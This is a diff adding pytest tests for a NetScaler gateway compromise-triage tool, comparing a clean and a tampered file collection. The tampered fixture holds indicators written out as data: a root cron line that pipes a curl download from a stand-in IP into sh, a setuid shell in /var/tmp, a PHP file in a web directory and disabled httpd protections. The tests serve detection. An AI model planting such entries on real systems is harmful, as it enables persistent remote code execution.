@@ -1,0 +1,95 @@
+"""Triage checks on constructed collections: a clean install and a tampered one."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from ketenherstel.gateway.triage import read_collection, tar_bytes, triage
+from ketenherstel.gateway.watch import GatewayInputError
+
+T = 1_750_000_000
+CLEAN = {
+    "listing.txt": (
+        f"/var/netscaler/gui/admin_ui/php/index.php|root|wheel|644|{T}|{T}|1200\n"
+        f"/var/netscaler/logon/LogonPoint/index.html|root|wheel|644|{T}|{T}|800\n"
+        f"/usr/bin/su|root|wheel|4755|{T}|{T}|20000\n"
+        f"/var/tmp/build.log|nobody|nobody|644|{T}|{T}|10\n"
+    ).encode(),
+    "rc.netscaler": b"# start-up\nnsapimgr -ys call=ns_set_foo\n",
+    "httpd.conf": (
+        b"AddType application/x-httpd-php .php\nRequire all denied\nphp_flag engine off\n"
+    ),
+    "cron/tabs/root": b"SHELL=/bin/sh\n0 * * * * /netscaler/nsclfsyncd -v\n",
+    "custom_checks.log": (
+        b"===== Check script version 1.8.1 =====\n===== PHP files in /var/netscaler/ =====\n"
+        b"\n===== Check for setuid shell at /var/tmp/sh =====\n"
+        b"/var/tmp/sh does not exist or is not setuid.\n\nAll checks completed.\n"
+    ),
+}
+TAMPERED = {
+    "listing.txt": CLEAN["listing.txt"]
+    + (
+        f"/var/netscaler/logon/themes/x.php|nobody|nobody|644|{T - 90 * 86400}|{T}|300\n"
+        f"/var/vpn/bookmark/y.xhtml|nobody|nobody|644|{T}|{T}|300\n"
+        f"/var/tmp/sh|root|wheel|4755|{T}|{T}|100000\n"
+        f"/var/core/3/NSPPE-00-123.gz|root|wheel|644|{T}|{T}|9999\n"
+    ).encode(),
+    "rc.netscaler": CLEAN["rc.netscaler"] + b"python -c 'import os' &\n",
+    "httpd.conf": (
+        b"AddType application/x-httpd-php .php .js\n#  Require all denied\n# php_flag engine off\n"
+    ),
+    "cron/tabs/nobody": b"*/5 * * * * /var/tmp/sh -c id\n",
+    "cron/tabs/root": CLEAN["cron/tabs/root"] + b"0 3 * * * curl -s http://198.51.100.9/x | sh\n",
+    "custom_checks.log": (
+        b"===== Check script version 1.8.1 =====\n===== PHP files in /var/netscaler/ =====\n"
+        b"-rw-r--r--  1 nobody  nobody  300 Jul  1 10:00 /var/netscaler/logon/themes/x.php\n"
+        b"===== NSPPE core dumps (low confidence indicator) =====\n"
+        b"-rw-r--r--  1 root  wheel  9999 Jul  1 10:00 /var/core/3/NSPPE-00-123.gz\n"
+    ),
+}
+
+
+def write_dir(root: Path, files: dict[str, bytes]) -> Path:
+    for name, data in files.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_bytes(data)
+    return root
+
+
+def test_a_clean_install_has_no_findings(tmp_path: Path) -> None:
+    assert triage(read_collection(write_dir(tmp_path / "clean", CLEAN))) == []
+
+
+def test_a_tampered_install_is_found_in_a_directory_and_a_tar(tmp_path: Path) -> None:
+    from_dir = triage(read_collection(write_dir(tmp_path / "bad", TAMPERED)))
+    tar = tmp_path / "collection.tar.gz"
+    tar.write_bytes(tar_bytes(TAMPERED))
+    from_tar = triage(read_collection(tar))
+    rules = sorted(f.rule for f in from_dir)
+    assert rules == sorted(f.rule for f in from_tar)
+    assert rules.count("triage-script-in-web-dir") == 2
+    assert rules.count("triage-suid") == 1  # /var/tmp/sh; /usr/bin/su is not under /var
+    assert rules.count("triage-timestomp") == 1
+    assert rules.count("triage-nsppe-core") == 1
+    assert rules.count("triage-rc-netscaler") == 1
+    assert rules.count("triage-httpd-php-extension") == 1
+    assert rules.count("triage-httpd-protection-off") == 2
+    assert rules.count("triage-cron-nobody") == 1 and rules.count("triage-cron-fetch") == 1
+    ncsc = [f for f in from_dir if f.rule == "ncsc-nl-check"]
+    assert [(f.confidence, f.title) for f in ncsc] == [
+        ("high", "NCSC-NL check script: PHP files in /var/netscaler/"),
+        ("low", "NCSC-NL check script: NSPPE core dumps (low confidence indicator)"),
+    ]
+    php = next(f for f in from_dir if f.rule == "triage-script-in-web-dir")
+    assert str(php.evidence[0]).startswith("listing.txt:") and "x.php" in php.detail
+
+
+def test_unreadable_collections_are_named(tmp_path: Path) -> None:
+    bad = tmp_path / "x.tar.gz"
+    bad.write_bytes(b"not a tar")
+    with pytest.raises(GatewayInputError, match="not a directory or a readable tar"):
+        read_collection(bad)
+    with pytest.raises(GatewayInputError):
+        read_collection(tmp_path / "missing.tar")
